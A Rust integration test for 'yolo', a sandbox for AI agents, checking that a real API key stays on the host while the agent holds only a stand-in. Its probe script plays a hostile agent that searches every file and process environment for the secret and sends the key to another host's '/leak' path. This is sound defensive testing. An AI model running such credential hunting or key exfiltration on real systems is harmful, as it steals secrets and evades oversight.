//! Credentials kept outside the agent (issue 25), end to end with real parts: a test HTTPS
//! server with a CA of its own (given to yolo as `extra_ca`, which the guard's proxy trusts
//! upstream) that records the headers it receives, a `[credentials.NAME]` section read from the
//! host's environment, and an agent (`yolo run`) that, as root in its container, looks for the
//! real value everywhere and tries to use its stand-in elsewhere.

use crate::support::https::*;
use crate::support::net::*;
use crate::support::*;
use std::time::Duration;

/// The credential's host and another inspected host, both names of the test server.
const API: &str = "api.allowed.test";
const MIRROR: &str = "mirror.allowed.test";
/// An allowed name that is not inspected, answered with the same address (a CDN's edge).
const PLAIN: &str = "plain.allowed.test";

/// What the agent does, as root in its container: prints its variable, uses the stand-in on
/// the credential's host, sends it to another inspected host, sends someone else's key, and
/// looks for the real value in every file and in the environment of every process. The real
/// value is never in the script nor on a command line (which the exec audit records, on the
/// host): its two halves are joined into a pattern file under /dev, which the search skips.
fn probe_script(first: &str, second: &str) -> String {
    format!(
        r#"echo "agent-var=$EXAMPLE_KEY"
code() {{ curl -sS -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; }}
echo "own=$(code -H "x-api-key: $EXAMPLE_KEY" https://{API}/with-stand-in)"
echo "misuse=$(code -H "x-api-key: $EXAMPLE_KEY" https://{MIRROR}/leak)"
echo "theirs=$(code -H 'x-api-key: someone-elses-key-0123456789' https://{API}/theirs)"
printf '%s' '{first}' > /dev/shm/pattern; printf '%s\n' '{second}' >> /dev/shm/pattern
echo "files=$(grep -rlsF -f /dev/shm/pattern / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | tr '\n' ' ')"
echo "environ=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | grep -qF -f /dev/shm/pattern && echo "$f"; done | tr '\n' ' ')"
rm -f /dev/shm/pattern
echo done
"#
    )
}

/// ATTACK: root in the agent container holds only a stand-in. The real value (read on the
/// host from `from_env`) is in no file and no process's environment in the container; the
/// agent's variable holds a stand-in, which the guard swaps for the real value on the
/// credential's host only; the stand-in sent to another inspected host is refused (403) and
/// recorded as `credential_misuse`; someone else's key on the credential's host is refused.
#[test]
fn the_agent_holds_a_stand_in_and_the_guard_adds_the_real_key_only_where_it_belongs() {
    let mut t = Test::new();
    let net = Internet::new(&t);
    let ca = TestCa::new("yolo credentials test server CA");
    let certs = tempfile::tempdir().unwrap();
    let ca_file = ca.write(certs.path(), "ca.pem");
    let server = HttpsServer::start(&t, &net, "https", &ca, &[API, MIRROR, PLAIN]);
    net.set_answer(API, &server.ip);
    net.set_answer(MIRROR, &server.ip);
    net.set_answer(PLAIN, &server.ip);

    let real = format!("realkey-{}-0123456789abcdef", t.id);
    let (first, second) = real.split_at(real.len() / 2);
    t.env("YOLO_TEST_REAL_KEY", &real);
    t.devcontainer(&format!(r#"{{"image": "{AGENT_IMAGE}"}}"#));
    t.user_config(&net.user_config(&format!(
        r#"extra_ca = ["{ca}"]
[credentials.example]
hosts = ["{API}"]
header = "x-api-key"
from_env = "YOLO_TEST_REAL_KEY"
agent_env = "EXAMPLE_KEY"
[http."{MIRROR}"]
allow = ["GET /**"]
[agents.probe]
command = ["sh", "-c", {script}]
"#,
        ca = ca_file.display(),
        script = serde_json::to_string(&probe_script(first, second)).unwrap(),
    )));
    let mut args = vec!["run".to_string(), "probe".to_string()];
    args.extend(net.up_flags(&["*.allowed.test"]));
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = t.yolo(&refs);
    let out = run.stdout();
    assert!(out.contains("done"), "{}", run.describe());

    // The agent's variable holds a stand-in, not the real value.
    let stand_in = field(&out, "agent-var");
    assert!(!stand_in.is_empty(), "the agent got no variable:\n{out}");
    assert_ne!(stand_in, real);
    assert!(
        !out.contains(&real),
        "the real value reached the agent:\n{out}"
    );
    // Nowhere in the container: no file, no process's environment.
    assert_eq!(field(&out, "files"), "", "files holding the real value");
    assert_eq!(field(&out, "environ"), "", "environments holding it");

    // The stand-in works on the credential's host, where the real value arrives.
    assert_eq!(field(&out, "own"), "200", "{}", run.describe());
    let seen = server.received();
    let own = seen
        .iter()
        .find(|r| r["path"] == "/with-stand-in")
        .unwrap_or_else(|| panic!("the server never saw the request: {seen:?}"));
    assert_eq!(own["key"], real.as_str(), "{own}");
    // Anywhere else it is refused, and recorded; someone else's key too.
    assert_eq!(field(&out, "misuse"), "403", "{}", run.describe());
    assert_eq!(field(&out, "theirs"), "403", "{}", run.describe());
    assert!(
        !seen
            .iter()
            .any(|r| r["path"] == "/leak" || r["path"] == "/theirs"),
        "refused requests reached the server: {seen:?}"
    );
    let misuse = wait_event(&t, Duration::from_secs(5), |e| {
        e["kind"] == "credential_misuse"
    });
    let misuse = misuse.unwrap_or_else(|| panic!("no credential_misuse event: {:?}", t.events()));
    let text = misuse.to_string();
    assert!(text.contains("example"), "{text}");
    assert!(!text.contains(&real) && !text.contains(stand_in), "{text}");
    // `yolo audit --kind http` lists the requests, the run's summary counts the refused ones.
    let audit = t.yolo(&["audit", "--kind", "http"]).ok().stdout();
    assert!(
        audit.contains(&format!("GET {API}/with-stand-in -> 200 ("))
            && audit.contains("credential example"),
        "{audit}"
    );
    assert!(
        audit.contains(&format!("GET {MIRROR}/leak -> 403 refused by the guard")),
        "{audit}"
    );
    assert!(
        run.stderr().contains("requests refused (HTTP): 2"),
        "{}",
        run.describe()
    );
    // `yolo allow --http` opens what a rule refused, on the running session; `deny --http`
    // closes it again.
    let upload = || {
        t.yolo(&[
            "exec",
            "curl",
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--max-time",
            "10",
            "-X",
            "POST",
            &format!("https://{MIRROR}/upload"),
        ])
        .stdout()
    };
    assert_eq!(upload(), "403");
    let rule = format!("{MIRROR} POST /upload");
    t.yolo(&["allow", "--http", &rule]).ok();
    assert_eq!(upload(), "200");
    t.yolo(&["deny", "--http", &rule]).ok();
    assert_eq!(upload(), "403");
    t.yolo(&["deny", "--http", &rule])
        .assert_stderr_contains("hold no POST /upload");
    // `yolo exec` gets the agent's stand-in (never the real value), and the request works.
    let probe = format!(
        r#"echo "exec-var=$EXAMPLE_KEY"; echo "exec-own=$(curl -sS -o /dev/null -w '%{{http_code}}' --max-time 10 -H "x-api-key: $EXAMPLE_KEY" https://{API}/from-exec)""#
    );
    let exec = t.yolo(&["exec", "sh", "-c", &probe]);
    let exec_out = exec.stdout();
    assert_eq!(
        field(&exec_out, "exec-var"),
        stand_in,
        "{}",
        exec.describe()
    );
    assert_eq!(field(&exec_out, "exec-own"), "200", "{}", exec.describe());
    let from_exec = server.received();
    let from_exec = from_exec
        .iter()
        .find(|r| r["path"] == "/from-exec")
        .unwrap_or_else(|| panic!("the server never saw exec's request: {from_exec:?}"));
    assert_eq!(from_exec["key"], real.as_str(), "{from_exec}");

    // The not inspected name at the inspected address: passed through untouched (the server's
    // own certificate, which the agent trusts as an extra CA; the server sees it as sent).
    let plain = t.yolo(&[
        "exec",
        "curl",
        "-sS",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "--max-time",
        "10",
        &format!("https://{PLAIN}/passed-through"),
    ]);
    assert_eq!(plain.stdout(), "200", "{}", plain.describe());
    let seen = server.received();
    assert!(
        seen.iter()
            .any(|r| r["path"] == "/passed-through" && r["host"] == PLAIN),
        "{seen:?}"
    );

    // A guard that restarts comes back refusing every inspected connection (no secrets: its
    // `status` says so) and takes the agent's processes with it; the next `yolo up` is a new
    // session that sends the secrets again, with the config's rules (the live `allow --http`
    // of the old session is gone: docs/configuration.md).
    let guard = guard_of(&t);
    t.yolo(&["allow", "--http", &rule]).ok();
    docker(&["restart", &guard]);
    let status = docker(&[
        "exec",
        &guard,
        "/usr/local/bin/yolo-guard",
        "ctl",
        r#"{"op":"status"}"#,
    ]);
    assert!(status.contains(r#""proxy_armed":false"#), "{status}");
    let mut up = vec!["up".to_string()];
    up.extend(net.up_flags(&["*.allowed.test"]));
    let up: Vec<&str> = up.iter().map(String::as_str).collect();
    let again_up = t.yolo(&up).ok();
    // `up` says which keys stay outside, with their hosts.
    again_up.assert_stderr_contains(&format!("keys kept outside the container: example ({API})"));
    let status = docker(&[
        "exec",
        &guard_of(&t),
        "/usr/local/bin/yolo-guard",
        "ctl",
        r#"{"op":"status"}"#,
    ]);
    assert!(status.contains(r#""proxy_armed":true"#), "{status}");
    let again = t.yolo(&[
        "exec",
        "sh",
        "-c",
        &probe.replace("/from-exec", "/after-restart"),
    ]);
    let again_out = again.stdout();
    assert_ne!(
        field(&again_out, "exec-var"),
        stand_in,
        "a new session, a new stand-in"
    );
    assert_eq!(field(&again_out, "exec-own"), "200", "{}", again.describe());
    assert_eq!(
        upload(),
        "403",
        "the old session's live rule is not carried over"
    );

    // The host's own files: the real value is in none of yolo's (its state, the logs, the
    // guard's config), the stand-in only where `run` reads it.
    let mut found = Vec::new();
    for entry in files_below(t.root()) {
        if std::fs::read_to_string(&entry).is_ok_and(|text| text.contains(&real)) {
            found.push(entry);
        }
    }
    assert!(found.is_empty(), "yolo wrote the real value to {found:?}");
}
